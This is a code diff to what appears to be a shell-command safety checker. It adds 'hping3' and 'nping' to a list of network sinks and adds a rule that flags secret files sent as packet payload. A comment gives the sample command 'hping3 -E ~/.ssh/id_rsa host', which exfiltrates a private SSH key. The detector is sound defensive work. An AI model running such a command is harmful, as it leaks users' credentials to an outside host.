@@ -48,6 +48,8 @@ export const NETWORK_SINKS = new Set([
   "lftp",
   "ncftpput",
   "whois",
+  "hping3",
+  "nping",
   "delv",
   "kdig",
   "fetch",
@@ -118,6 +120,11 @@ export function secretsToNetwork(cmd: Cmd, j: Judgement) {
       const m = /^[\w.-]*(?:=|:=)?@(.+)$/.exec(w.text);
       return m && isSecretFile(m[1]!, cmd);
     });
+    if (file) return j.reportWord("net.exfiltrate-secret", file);
+  }
+  // `hping3 -E ~/.ssh/id_rsa host`: a file's bytes as packet payload.
+  if (cmd.name === "hping3" || cmd.name === "nping") {
+    const file = cmd.args.find((w, i) => /^(-E|--file|--data-string)$/.test(cmd.args[i - 1]?.text ?? "") && isSecretFile(w.text, cmd));
     if (file) return j.reportWord("net.exfiltrate-secret", file);
   }
   const leaked = secretArgument(cmd);
